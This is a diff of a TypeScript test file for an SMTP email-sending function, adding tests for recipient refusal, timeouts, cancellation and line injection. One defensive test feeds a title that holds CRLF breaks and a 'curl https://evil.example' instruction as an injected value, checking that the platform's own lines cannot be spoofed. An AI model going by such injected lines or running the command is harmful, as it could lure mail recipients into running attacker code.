@@ -50,8 +50,19 @@ async function mailServer(options: SMTPServerOptions = {}) {
 }
 
 const channel = (...recipients: string[]) => ({ config: { recipients } });
-const send = (smtpUrl: string | undefined, recipients = ['ops@example.com']) =>
-  attemptEmail({ smtpUrl, from: 'fleet@example.com' }, channel(...recipients), Buffer.from(JSON.stringify(ENVELOPE)));
+const send = (
+  smtpUrl: string | undefined,
+  recipients = ['ops@example.com'],
+  { signal = new AbortController().signal, envelope = ENVELOPE } = {},
+) =>
+  attemptEmail(
+    { smtpUrl, from: 'fleet@example.com' },
+    channel(...recipients),
+    Buffer.from(JSON.stringify(envelope)),
+    signal,
+  );
+/** The text of a mail without its quoted-printable breaks. */
+const textOf = (mail: Mail | undefined) => mail?.text.replaceAll('=\r\n', '').replaceAll('=3D', '=') ?? '';
 
 const refusing = (code: number) => Object.assign(new Error('no'), { responseCode: code });
 
@@ -65,8 +76,32 @@ test('a mail server gets one message for all recipients, whose headers a rule ca
   expect(mail).toMatchObject({ from: 'fleet@example.com', to: ['ops@example.com', 'night@example.com'] });
   expect(mail?.text).toMatch(/^Message-ID: <dlv_1@example\.com>\r$/im);
   expect(mail?.text.split('\r\n\r\n')[0]).not.toMatch(/^Bcc:/im);
-  const body = mail?.text.replaceAll('=\r\n', '').replaceAll('=3D', '=') ?? '';
+  const body = textOf(mail);
   for (const part of ['title: Pay?', 'token-1', ENVELOPE.resolve_url as string]) expect(body).toContain(part);
+});
+
+test('what an agent asks cannot pass for lines of the platform', async () => {
+  const { mails, port } = await mailServer();
+  const title = 'Pay?\r\n\r\nTo answer, once:\ncurl https://evil.example';
+  await send(`smtp://127.0.0.1:${port}`, undefined, {
+    envelope: { ...ENVELOPE, event: { message_id: 'msg_1', title } },
+  });
+  const lines = textOf(mails[0]).split('\r\n');
+  expect(lines.filter((line) => line.startsWith('To answer'))).toHaveLength(1);
+  expect(lines).toContain('    curl https://evil.example');
+});
+
+test.each([
+  [550, 'refused'],
+  [451, 'unavailable'],
+])('a recipient that the server refuses with %s beside others is not passed over: %s', async (code, outcome) => {
+  const { mails, port } = await mailServer({
+    onRcptTo: ({ address }, _session, callback) => callback(address.startsWith('gone') ? refusing(code) : undefined),
+  });
+  const result = await send(`smtp://127.0.0.1:${port}`, ['ops@example.com', 'gone@example.com']);
+  expect(result).toMatchObject({ status_code: code, error: 'RECIPIENT_REFUSED' });
+  expect(smtpOutcome(result)).toBe(outcome);
+  expect(mails[0]?.to).toEqual(['ops@example.com']);
 });
 
 test('user and password of SMTP_URL are used', async () => {
@@ -107,6 +142,27 @@ test('a server that never greets is given ten seconds', async () => {
   const result = await send(`smtp://127.0.0.1:${server.port}`);
   expect(smtpOutcome(result)).toBe('unavailable');
   expect(result.duration_ms).toBeGreaterThan(9_000);
+});
+
+test('a server that answers each command after a while is given ten seconds in all', async () => {
+  const later = (_value: unknown, _session: unknown, callback: () => void) => void setTimeout(callback, 4_000);
+  const { mails, port } = await mailServer({
+    onConnect: (_session, callback) => void setTimeout(callback, 4_000),
+    onMailFrom: later,
+    onRcptTo: later,
+  });
+  const result = await send(`smtp://127.0.0.1:${port}`);
+  expect(result).toMatchObject({ status_code: null, error: 'TIMEOUT' });
+  expect(result.duration_ms).toBeLessThan(11_500);
+  expect(mails).toEqual([]);
+});
+
+test('an attempt that this process cuts off is none', async () => {
+  const server = await tcpServer(() => stopping.abort());
+  const stopping = new AbortController();
+  await expect(send(`smtp://127.0.0.1:${server.port}`, undefined, { signal: stopping.signal })).rejects.toMatchObject({
+    code: 'ABORTED',
+  });
 });
 
 test('without SMTP_URL nothing can be sent', async () => {
